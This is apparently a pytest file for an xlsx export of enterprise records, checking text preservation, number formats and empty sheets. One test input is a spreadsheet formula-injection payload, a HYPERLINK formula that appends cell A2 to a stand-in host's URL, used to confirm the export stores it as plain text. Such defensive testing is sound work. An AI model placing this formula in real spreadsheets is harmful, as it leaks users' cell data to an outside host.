"""The workbook that a county downloads: texts stay texts, numbers are shown whole, and no rows are a table too."""

from __future__ import annotations

import zipfile
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import polars as pl

from gateway.portal.workbook import _workbook


class Terms:
    """What a contract says of the columns."""

    product = "enterprise_mirror"
    columns = ()


def test_texts_are_kept_as_texts_whatever_an_enterprise_calls_itself(tmp_path: Path) -> None:
    names = ['=HYPERLINK("http://x.example/?"&A2,"某公司")', "=1+1", "http://x.example/", "mailto:a@x.example", "甲"]
    codes = ["913301102381772529", "001", "1e5", "-1", "+1"]
    rows = pl.DataFrame({"name": names, "code": codes, "amount": [Decimal("1.50")] * 5, "empty": [None] * 5})
    book = tmp_path / "book.xlsx"
    book.write_bytes(_workbook(rows, Terms))  # pyright: ignore[reportArgumentType]
    told = pl.read_excel(book)
    assert (told["name"].to_list(), told["code"].to_list()) == (names, codes)
    assert told["amount"].to_list() == [1.5] * 5
    with zipfile.ZipFile(book) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<hyperlink" not in sheet


def test_a_county_without_rows_has_a_workbook_of_its_columns(tmp_path: Path) -> None:
    book = tmp_path / "book.xlsx"
    book.write_bytes(_workbook(pl.DataFrame(schema={"name": pl.String, "amount": pl.Int64}), Terms))  # pyright: ignore[reportArgumentType]
    told = pl.read_excel(book, raise_if_empty=False)
    assert told.is_empty()


def test_a_year_and_a_small_quotient_are_shown_as_they_are(tmp_path: Path) -> None:
    book = tmp_path / "book.xlsx"
    rows = pl.DataFrame({"year": [2025], "quotient": [0.00004], "share": [Decimal("0.000040")]})
    book.write_bytes(_workbook(rows, Terms))  # pyright: ignore[reportArgumentType]
    with zipfile.ZipFile(book) as parts:
        styles, sheet = (
            ElementTree.fromstring(parts.read(f"xl/{each}.xml")) for each in ("styles", "worksheets/sheet1")
        )
    formats = [each.get("numFmtId") for each in styles.iterfind("{*}cellXfs/{*}xf")]
    shown = [formats[int(cell.get("s", 0))] for cell in sheet.iterfind("{*}sheetData/{*}row[2]/{*}c")]
    # Excel's own numbers: 0 is General, 1 is a whole number without commas.
    assert shown == ["1", "0", "0"]
